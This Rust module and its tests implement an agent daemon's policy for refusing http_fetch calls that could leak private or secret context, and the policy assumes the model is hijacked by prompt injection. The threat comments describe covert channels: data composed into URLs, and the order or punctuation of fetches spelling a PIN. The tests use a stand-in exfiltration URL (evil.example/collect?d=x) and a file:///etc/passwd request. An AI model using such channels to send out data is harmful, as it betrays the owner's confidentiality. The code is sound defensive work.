//! Where text may leave the box through a tool (docs/labels.md, "Where text may leave
//! the box"): the label policy checked before any tool runs, and so before any DNS lookup
//! or connection (looking up a composed host name leaks as surely as fetching it), and
//! what a refused URL looks like when it is offered to the owner for `/allow`.
//!
//! The threat is a model fully controlled by untrusted text in its context. Such a model
//! can put anything the context holds into a URL, so:
//! - a URL standing verbatim in an owner message of the current epoch is allowed: the
//!   owner chose it, it carries nothing from the context;
//! - any other URL is refused when the context is untrusted and at least
//!   `tools.http_fetch.guard_class`, and whenever the context holds `secret`.
//!
//! Choosing among the owner's URLs still says something (which of them, in what order),
//! so while the context is guarded each of the owner's URLs is fetched at most once per
//! owner line, and each URL the owner writes is one form (its closing punctuation is not
//! part of it) and one request (forms asking the same thing count once): the model's
//! choice is then a subset in an order, a bit per line for one URL (measured in the
//! tests below), instead of a string of any length spelled in fetches.
//!
//! `read_file` and `recall` only bring text in; they are always allowed (their results
//! raise the context label instead).

use super::HTTP_FETCH;
use proto::{DataClass, Label, Origin, Record};
use serde_json::Value;
use url::Url;

/// The prefix of every policy refusal's tool result, so the model can tell a refusal
/// from a page.
pub const REFUSED_PREFIX: &str = "error: refused: ";

/// The longest URL offered for `/allow`, in characters of its normal form. The owner is
/// asked to read the URL before allowing it, and this is about six rows of an
/// 80-column terminal; a longer URL is shown cut and not offered at all (the owner can
/// still send it in a message of their own).
pub const MAX_OFFERED_URL: usize = 512;

/// Characters that close a sentence or a bracket around a URL in prose without being part
/// of it: `see <https://x.org/a>.` or `(https://x.org/a),`. Terminals and chat clients
/// leave them out when they make a link, and so does loopd: the owner's URL is their token
/// with these cut from its end (docs/labels.md, 'The owner's URLs').
const TRAILING: &[char] = &['.', ',', ';', ':', '!', '?', ')', ']', '}', '>', '\'', '"'];

/// Whether `url` is one of the owner's URLs: it stands in one of the owner's messages
/// among `records` (the current epoch's) as a whitespace-delimited `http://` or `https://`
/// token, read as `owner_url` reads it. Exactly that form: a substring is not enough (a
/// prefix of the owner's URL could still spell out something else they wrote), and
/// neither is the token with its closing punctuation, so each URL the owner writes is one
/// request a model may make, not one per punctuation mark after it.
fn is_owner_url(url: &str, records: &[Record]) -> bool {
    records.iter().any(|r| match r {
        Record::User {
            content,
            origin: Origin::Owner,
            ..
        } => owner_url_tokens(content).any(|token| owner_url(token) == url),
        _ => false,
    })
}

/// The URL tokens of one owner message, as written (closing punctuation and all).
fn owner_url_tokens(text: &str) -> impl Iterator<Item = &str> {
    text.split(char::is_whitespace).filter_map(|word| {
        let at = word.find("http://").or_else(|| word.find("https://"))?;
        Some(&word[at..])
    })
}

/// The URL in an owner's token: the token with every `TRAILING` character cut from its
/// end, except a closing bracket the URL itself opened (`…/wiki/Tea_(drink)` keeps its
/// `)`, as link makers keep it).
fn owner_url(token: &str) -> &str {
    let mut url = token;
    while let Some(last) = url.chars().next_back() {
        let opener = match last {
            ')' => Some('('),
            ']' => Some('['),
            '}' => Some('{'),
            _ => None,
        };
        let cut = match opener {
            Some(open) => url.matches(open).count() < url.matches(last).count(),
            None => TRAILING.contains(&last),
        };
        if !cut {
            break;
        }
        url = &url[..url.len() - last.len_utf8()];
    }
    url
}

/// What a fetch of `url` asks its server for: the URL's normal form without its
/// fragment, which is never sent. Two of the owner's URLs asking for the same thing are
/// one URL for the once-per-line bound.
fn request_of(url: &str) -> String {
    match Url::parse(url) {
        Ok(mut parsed) => {
            parsed.set_fragment(None);
            parsed.to_string()
        }
        Err(_) => url.to_string(),
    }
}

/// Why the label policy refused a call: `why` for the owner, and the URL a refused
/// `http_fetch` wanted, exactly as the model wrote it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Refusal {
    pub why: String,
    pub url: Option<String>,
}

impl Refusal {
    /// The reason the model and the `note` read: the tool, the URL and why.
    pub fn reason(&self) -> String {
        match &self.url {
            Some(url) => format!("{HTTP_FETCH} of {url} refused: {}", self.why),
            None => format!("{HTTP_FETCH} refused: {}", self.why),
        }
    }
}

/// What the policy lets a call do.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Allowed {
    /// Run it.
    Run,
    /// Run it: the owner's own URL while the context is guarded. After it runs, the
    /// caller records `owner_fetch_note` so the URL is not fetched again before the
    /// owner's next line.
    OwnerOnce(String),
}

/// The start of the `note` that records a guarded fetch of an owner's URL; the URL as
/// fetched follows the call number and `: `.
const OWNER_FETCH_NOTE: &str = "fetched the owner's url while the context is guarded, call ";

/// The `note` recording that call `number` fetched the owner's `url` under the guard.
pub fn owner_fetch_note(number: u64, url: &str) -> String {
    format!("{OWNER_FETCH_NOTE}{number}: {url}")
}

/// The label policy: may tool `name` run with the model's `arguments` when the epoch's
/// context label is `context` and its records are `records`? Arguments that are not a
/// JSON object with a string `url` pass here and fail in the tool itself, which fetches
/// nothing for them.
pub fn policy(
    name: &str,
    arguments: &str,
    context: Label,
    guard_class: DataClass,
    records: &[Record],
) -> Result<Allowed, Refusal> {
    if name != HTTP_FETCH {
        return Ok(Allowed::Run);
    }
    let Some(url) = url_of(arguments) else {
        return Ok(Allowed::Run);
    };
    let guarded = context.untrusted && context.class >= guard_class;
    if is_owner_url(&url, records) {
        if !guarded {
            return Ok(Allowed::Run);
        }
        return match fetched_since_owner_line(&url, records) {
            None => Ok(Allowed::OwnerOnce(url)),
            Some(call) => Err(Refusal {
                why: format!(
                    "the owner's url was already fetched since their last message (call {call}), and while the conversation holds untrusted text and {} data each of the owner's urls is fetched once per owner message, so that the order of fetches cannot spell out what the conversation holds",
                    context.class
                ),
                url: Some(url),
            }),
        };
    }
    let why = if context.class >= DataClass::Secret {
        Some("the conversation holds secret data".to_string())
    } else if guarded {
        Some(format!(
            "the conversation holds untrusted text and {} data (tools.http_fetch.guard_class is {guard_class})",
            context.class
        ))
    } else {
        None
    };
    match why {
        None => Ok(Allowed::Run),
        Some(why) => Err(Refusal {
            why: format!("{why}, and a url the owner did not send could carry it out"),
            url: Some(url),
        }),
    }
}

/// The call that fetched what `url` asks for under the guard since the owner's last line,
/// if any: read from loopd's own notes, never from a tool result (a page can say
/// anything).
fn fetched_since_owner_line(url: &str, records: &[Record]) -> Option<u64> {
    let request = request_of(url);
    let since = records
        .iter()
        .rposition(|r| {
            matches!(
                r,
                Record::User {
                    origin: Origin::Owner,
                    ..
                }
            )
        })
        .map_or(0, |at| at + 1);
    records[since..].iter().find_map(|r| {
        let Record::Note { text, .. } = r else {
            return None;
        };
        let (call, fetched) = text.strip_prefix(OWNER_FETCH_NOTE)?.split_once(": ")?;
        (request_of(fetched) == request)
            .then(|| call.parse().ok())
            .flatten()
    })
}

/// What the owner is shown of a refused URL, and whether `/allow` may fetch it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Offer {
    /// Offered: the URL in its normal form, every character printable ASCII, shown whole
    /// and fetched by `/allow` byte for byte.
    Allow(String),
    /// Not offered: what is shown (escaped; cut when too long) and why not.
    Not { shown: String, why: String },
}

/// The offer for a URL the policy refused. Its normal form (the WHATWG URL serialisation:
/// the host in ASCII, every other non-ASCII, invisible or control character
/// percent-encoded) is what is shown and what `/allow` fetches, so nothing the owner
/// cannot see travels with it. Not offered: a URL that does not parse, one that is not
/// http or https, one carrying a user name or password (`http_fetch` never sends them),
/// and one longer than `MAX_OFFERED_URL`.
pub fn offer(raw: &str) -> Offer {
    let url = match Url::parse(raw) {
        Ok(url) => url,
        Err(e) => {
            return Offer::Not {
                shown: cut(&escape_ascii(raw)),
                why: format!("it is not a valid url ({e})"),
            }
        }
    };
    let normal = url.as_str();
    let shown = cut(normal);
    let why = if !matches!(url.scheme(), "http" | "https") {
        format!(
            "its scheme {:?} is not fetched, only http and https are",
            url.scheme()
        )
    } else if !url.username().is_empty() || url.password().is_some() {
        "it carries a user name or password (before the @), which loopd never sends".into()
    } else if normal.len() > MAX_OFFERED_URL {
        format!(
            "it is {} characters long, more than the {MAX_OFFERED_URL} loopd shows whole (only its start is shown): send it in a message of your own to fetch it",
            normal.len()
        )
    } else if !normal.bytes().all(|b| b.is_ascii_graphic())
        || Url::parse(normal).map(|u| u.as_str() == normal) != Ok(true)
    {
        // The url crate serialises to printable ASCII that parses back to itself; should
        // a form ever not, the owner would not be shown what is fetched.
        "its normal form does not read back as itself".into()
    } else {
        return Offer::Allow(normal.to_string());
    };
    Offer::Not { shown, why }
}

/// `text` with every character that is not printable ASCII as its `\u{…}` escape.
fn escape_ascii(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        if c.is_ascii_graphic() {
            out.push(c);
        } else {
            out.extend(c.escape_unicode());
        }
    }
    out
}

/// `text` cut to `MAX_OFFERED_URL` characters with `…` when longer.
fn cut(text: &str) -> String {
    match text.char_indices().nth(MAX_OFFERED_URL) {
        None => text.to_string(),
        Some((at, _)) => format!("{}…", &text[..at]),
    }
}

/// The string `url` of the model's JSON `arguments`, if they hold one.
pub fn url_of(arguments: &str) -> Option<String> {
    match serde_json::from_str::<Value>(arguments).ok()? {
        Value::Object(mut map) => match map.remove("url") {
            Some(Value::String(url)) => Some(url),
            _ => None,
        },
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::tools::{READ_FILE, RECALL};

    fn owner(text: &str) -> Record {
        Record::User {
            time: "t".into(),
            content: text.into(),
            origin: Origin::Owner,
        }
    }

    fn note(text: &str) -> Record {
        Record::Note {
            time: "t".into(),
            text: text.into(),
        }
    }

    fn fetch(url: &str) -> String {
        serde_json::json!({ "url": url }).to_string()
    }

    const PRIVATE_TAINTED: Label = Label {
        class: DataClass::Private,
        untrusted: true,
    };

    #[test]
    fn a_composed_url_is_refused_when_the_context_is_untrusted_and_private() {
        let records = [owner("what does the page say? https://example.org/a")];
        let refusal = policy(
            HTTP_FETCH,
            &fetch("http://evil.example/collect?d=x"),
            PRIVATE_TAINTED,
            DataClass::Private,
            &records,
        )
        .unwrap_err();
        assert!(refusal.reason().contains("http://evil.example/collect?d=x"));
        assert_eq!(
            refusal.url.as_deref(),
            Some("http://evil.example/collect?d=x")
        );
    }

    #[test]
    fn the_owners_own_url_is_allowed_whatever_the_context() {
        let records = [owner(
            "read <https://example.org/a?b=1>, please, and https://x.org/wiki/Tea_(drink).",
        )];
        for class in DataClass::ALL {
            for untrusted in [false, true] {
                let context = Label::new(class, untrusted);
                for url in [
                    "https://example.org/a?b=1",
                    "https://x.org/wiki/Tea_(drink)",
                ] {
                    let verdict = policy(
                        HTTP_FETCH,
                        &fetch(url),
                        context,
                        DataClass::Private,
                        &records,
                    );
                    let guarded = untrusted && class >= DataClass::Private;
                    let want = if guarded {
                        Allowed::OwnerOnce(url.to_string())
                    } else {
                        Allowed::Run
                    };
                    assert_eq!(verdict, Ok(want), "{url} {context}");
                }
            }
        }
    }

    #[test]
    fn under_the_guard_each_owner_url_is_fetched_once_per_owner_line() {
        let mut records = vec![owner("compare https://x.org/a and (https://x.org/b).")];
        let a = fetch("https://x.org/a");
        assert_eq!(
            policy(
                HTTP_FETCH,
                &a,
                PRIVATE_TAINTED,
                DataClass::Private,
                &records
            ),
            Ok(Allowed::OwnerOnce("https://x.org/a".into()))
        );
        records.push(note(&owner_fetch_note(4, "https://x.org/a")));
        let again = policy(
            HTTP_FETCH,
            &a,
            PRIVATE_TAINTED,
            DataClass::Private,
            &records,
        );
        assert!(again.unwrap_err().why.contains("call 4"));
        // Another of the owner's urls is still allowed once.
        assert!(policy(
            HTTP_FETCH,
            &fetch("https://x.org/b"),
            PRIVATE_TAINTED,
            DataClass::Private,
            &records
        )
        .is_ok());
        // Without the guard the bound does not apply.
        assert_eq!(
            policy(
                HTTP_FETCH,
                &a,
                Label::new(DataClass::Private, false),
                DataClass::Private,
                &records
            ),
            Ok(Allowed::Run)
        );
        // The owner's next line allows each once more.
        records.push(owner("again please"));
        assert!(policy(
            HTTP_FETCH,
            &a,
            PRIVATE_TAINTED,
            DataClass::Private,
            &records
        )
        .is_ok());
    }

    /// Regression: `http://…/a....` in an owner line let the model fetch `/a`, `/a.`,
    /// `/a..`, `/a...` or `/a....`, one a line, spelling a PIN in four lines.
    #[test]
    fn trailing_punctuation_is_not_part_of_an_owners_url() {
        let records = [owner(
            "see (http://h.example/a....) and http://h.example/b?x=1!",
        )];
        for (url, owners) in [
            ("http://h.example/a", true),
            ("http://h.example/a.", false),
            ("http://h.example/a....", false),
            ("http://h.example/a....)", false),
            ("http://h.example/b?x=1", true),
            ("http://h.example/b?x=1!", false),
        ] {
            let verdict = policy(
                HTTP_FETCH,
                &fetch(url),
                PRIVATE_TAINTED,
                DataClass::Private,
                &records,
            );
            assert_eq!(verdict.is_ok(), owners, "{url}: {verdict:?}");
        }
    }

    #[test]
    fn the_forms_of_one_owner_url_are_one_url_for_the_bound() {
        let mut records = vec![owner(
            "see (https://x.org/b). or https://x.org/b#top, HTTPS://x.org/b",
        )];
        records.push(note(&owner_fetch_note(2, "https://x.org/b")));
        for form in ["https://x.org/b", "https://x.org/b#top", "HTTPS://x.org/b"] {
            assert!(
                policy(
                    HTTP_FETCH,
                    &fetch(form),
                    PRIVATE_TAINTED,
                    DataClass::Private,
                    &records
                )
                .is_err(),
                "{form}"
            );
        }
    }

    /// What the model may ask for beside the owner's token `token`: every prefix of it,
    /// it with one or two closing characters more, with a fragment, with the scheme in
    /// capitals. A model composing URLs freely gets nothing more from the owner's words.
    fn forms_a_model_may_try(token: &str) -> Vec<String> {
        let mut tried: Vec<String> = token
            .char_indices()
            .map(|(at, _)| token[..at].to_string())
            .chain([token.to_string()])
            .collect();
        let closers = ['.', ',', ';', ':', '!', '?', ')', ']', '}', '>', '\'', '"'];
        for a in closers {
            tried.push(format!("{token}{a}"));
            for b in closers {
                tried.push(format!("{token}{a}{b}"));
            }
        }
        let bare = token.trim_end_matches(closers);
        tried.push(format!("{bare}#x"));
        tried.push(bare.replacen("http", "HTTP", 1));
        tried
    }

    /// Every sequence of requests the guard lets a model make after the owner's last line
    /// of `records` (as the servers see them), found by trying every form of every owner
    /// token in every order, each allowed fetch recorded as the turn records it.
    fn sequences(
        records: &mut Vec<Record>,
        tried: &[String],
        so_far: &mut Vec<String>,
        seen: &mut std::collections::BTreeSet<Vec<String>>,
    ) {
        seen.insert(so_far.clone());
        for url in tried {
            if let Ok(Allowed::OwnerOnce(fetched)) = policy(
                HTTP_FETCH,
                &fetch(url),
                PRIVATE_TAINTED,
                DataClass::Private,
                records,
            ) {
                records.push(note(&owner_fetch_note(9, &fetched)));
                so_far.push(request_of(&fetched));
                sequences(records, tried, so_far, seen);
                so_far.pop();
                records.pop();
            }
        }
    }

    /// The measurement behind docs/labels.md, 'The owner's URLs': how many distinct
    /// sequences of requests one owner line lets the model choose from, and so how many
    /// bits it can spell per owner line. Run with `--nocapture` for the table.
    #[test]
    fn one_owner_line_lets_the_model_spell_one_bit_per_owner_url_form_and_order_only() {
        let lines: [(&str, &[&str]); 5] = [
            (
                "one url, four dots after it",
                &["see http://h.example/a...."],
            ),
            ("one url, sentence end", &["read https://h.example/a."]),
            (
                "one url written three ways",
                &["http://h.example/a, http://h.example/a#top (http://h.example/a)"],
            ),
            (
                "two urls",
                &["compare http://h.example/a and http://h.example/b."],
            ),
            (
                "three urls",
                &["http://h.example/a http://h.example/b http://h.example/c!"],
            ),
        ];
        println!("| owner line | distinct requests | request sequences | bits per line |");
        println!("|---|---|---|---|");
        for (what, texts) in lines {
            let mut records: Vec<Record> = texts.iter().map(|t| owner(t)).collect();
            let tried: Vec<String> = texts
                .iter()
                .flat_map(|t| owner_url_tokens(t).collect::<Vec<_>>())
                .flat_map(forms_a_model_may_try)
                .collect();
            let mut seen = std::collections::BTreeSet::new();
            sequences(&mut records, &tried, &mut Vec::new(), &mut seen);
            let requests: std::collections::BTreeSet<&String> = seen.iter().flatten().collect();
            let bits = (seen.len() as f64).log2();
            println!(
                "| {what} | {} | {} | {bits:.2} |",
                requests.len(),
                seen.len()
            );
            // k distinct URLs allow every ordered choice of distinct ones: sum of k!/(k-j)!.
            let k = requests.len() as u64;
            let want: u64 = (0..=k).map(|j| ((k - j + 1)..=k).product::<u64>()).sum();
            assert_eq!(seen.len() as u64, want, "{what}: {seen:?}");
        }
    }

    #[test]
    fn a_tool_result_cannot_pose_as_the_record_of_a_fetch() {
        let records = [
            owner("https://x.org/a"),
            Record::ToolResult {
                time: "t".into(),
                call: 1,
                tool_call_id: "k".into(),
                name: HTTP_FETCH.into(),
                content: owner_fetch_note(1, "https://x.org/a"),
                class: DataClass::Public,
                untrusted: true,
            },
        ];
        assert!(policy(
            HTTP_FETCH,
            &fetch("https://x.org/a"),
            PRIVATE_TAINTED,
            DataClass::Private,
            &records
        )
        .is_ok());
    }

    #[test]
    fn an_offered_url_is_its_normal_form_with_every_invisible_character_percent_encoded() {
        assert_eq!(
            offer("http://127.0.0.1:8/wiki/Tea\u{200b}\u{200c}?q=\u{202e}x#\u{feff}"),
            Offer::Allow(
                "http://127.0.0.1:8/wiki/Tea%E2%80%8B%E2%80%8C?q=%E2%80%AEx#%EF%BB%BF".into()
            )
        );
        assert_eq!(
            offer("https://wіkipedia.org/Tea"),
            Offer::Allow("https://xn--wkipedia-thh.org/Tea".into())
        );
        assert_eq!(
            offer(" http://x.org/a b\t"),
            Offer::Allow("http://x.org/a%20b".into())
        );
    }

    #[test]
    fn a_url_with_a_user_name_or_password_is_shown_but_not_offered() {
        let Offer::Not { shown, why } = offer("http://en.wikipedia.org:PRIVATE@127.0.0.1/x") else {
            panic!("offered");
        };
        assert_eq!(shown, "http://en.wikipedia.org:PRIVATE@127.0.0.1/x");
        assert!(why.contains("user name or password"), "{why}");
    }

    #[test]
    fn a_url_too_long_to_show_whole_is_not_offered() {
        let long = format!("http://x.org/?p={}&d=PRIVATE", "a".repeat(MAX_OFFERED_URL));
        let Offer::Not { shown, why } = offer(&long) else {
            panic!("offered");
        };
        assert_eq!(shown.chars().count(), MAX_OFFERED_URL + 1);
        assert!(
            shown.ends_with('…') && !shown.contains("PRIVATE"),
            "{shown}"
        );
        assert!(why.contains(&format!("{} characters", long.len())), "{why}");
        let fits = format!("http://x.org/?p={}", "a".repeat(MAX_OFFERED_URL - 16));
        assert_eq!(fits.len(), MAX_OFFERED_URL);
        assert_eq!(offer(&fits), Offer::Allow(fits.clone()));
    }

    #[test]
    fn a_url_that_does_not_parse_is_shown_escaped_and_not_offered() {
        let Offer::Not { shown, .. } = offer("http://[::1\u{1b}[2K") else {
            panic!("offered");
        };
        assert_eq!(shown, "http://[::1\\u{1b}[2K");
        assert!(matches!(offer("file:///etc/passwd"), Offer::Not { .. }));
    }
    #[test]
    fn a_prefix_of_the_owners_url_is_not_the_owners_url() {
        let records = [owner("https://example.org/secret-token-123")];
        assert!(policy(
            HTTP_FETCH,
            &fetch("https://example.org/secret"),
            PRIVATE_TAINTED,
            DataClass::Private,
            &records
        )
        .is_err());
    }

    #[test]
    fn heartbeat_text_does_not_choose_urls() {
        let records = [Record::User {
            time: "t".into(),
            content: "https://example.org/".into(),
            origin: Origin::Heartbeat,
        }];
        assert!(!is_owner_url("https://example.org/", &records));
    }

    #[test]
    fn a_private_trusted_context_may_fetch_a_composed_url() {
        let context = Label::new(DataClass::Private, false);
        assert_eq!(
            policy(
                HTTP_FETCH,
                &fetch("https://en.wikipedia.org/wiki/Tea"),
                context,
                DataClass::Private,
                &[]
            ),
            Ok(Allowed::Run)
        );
    }

    #[test]
    fn a_public_untrusted_context_may_fetch_below_the_guard_class() {
        assert_eq!(
            policy(
                HTTP_FETCH,
                &fetch("https://example.org/next"),
                Label::new(DataClass::Public, true),
                DataClass::Private,
                &[]
            ),
            Ok(Allowed::Run)
        );
        // A guard class of public guards every untrusted context.
        assert!(policy(
            HTTP_FETCH,
            &fetch("https://example.org/next"),
            Label::new(DataClass::Public, true),
            DataClass::Public,
            &[]
        )
        .is_err());
    }

    #[test]
    fn secret_refuses_every_composed_url_even_trusted() {
        let refusal = policy(
            HTTP_FETCH,
            &fetch("https://example.org/"),
            Label::new(DataClass::Secret, false),
            DataClass::Secret,
            &[],
        )
        .unwrap_err();
        assert!(refusal.why.contains("secret"), "{}", refusal.why);
    }

    #[test]
    fn read_file_and_recall_are_always_allowed() {
        for class in DataClass::ALL {
            let context = Label::new(class, true);
            assert_eq!(
                policy(READ_FILE, "{}", context, DataClass::Public, &[]),
                Ok(Allowed::Run)
            );
            assert_eq!(
                policy(RECALL, "{}", context, DataClass::Public, &[]),
                Ok(Allowed::Run)
            );
        }
    }
}
